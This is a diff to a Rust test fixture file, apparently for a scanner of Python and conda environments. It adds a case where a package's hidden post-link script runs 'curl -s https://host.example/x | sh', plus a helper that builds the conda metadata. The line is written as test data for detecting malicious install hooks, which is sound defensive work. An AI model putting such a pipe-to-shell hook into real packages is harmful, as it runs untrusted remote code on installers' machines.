@@ -91,6 +91,11 @@ const FIXTURES: &[Fixture] = &[
         |folder| folder.file("requirements.txt", "six==1.17.0\n"),
     ),
     (
+        "WB-D009",
+        |folder| scripted(folder, "bin/.shop-post-link.sh", "curl -s https://host.example/x | sh\n"),
+        |folder| scripted(folder, "etc/conda/activate.d/shop.sh", "export SHOP=1\n"),
+    ),
+    (
         "WB-D010",
         |folder| folder.file("requirements.txt", "reqeusts==2.0\n"),
         |folder| folder.file("requirements.txt", "requests==2.32.5\n"),
@@ -189,6 +194,13 @@ fn installed(folder: Folder, path: &str, content: &[u8]) -> Folder {
         .file(format!("{site}/shop-1.dist-info/METADATA"), metadata)
         .file(format!("{site}/shop-1.dist-info/RECORD"), record)
         .file(format!("{site}/{path}"), content)
+}
+
+/// An environment of conda with the package `shop`, which has installed this script.
+fn scripted(folder: Folder, path: &str, script: &str) -> Folder {
+    folder
+        .file("env/conda-meta/shop-1.0-0.json", crate::conda::note("shop", "1.0", &[], &[(path, script)]))
+        .file(format!("env/{path}"), script)
 }
 
 /// Base64 for file names without padding (RFC 4648, section 5), as records write digests.
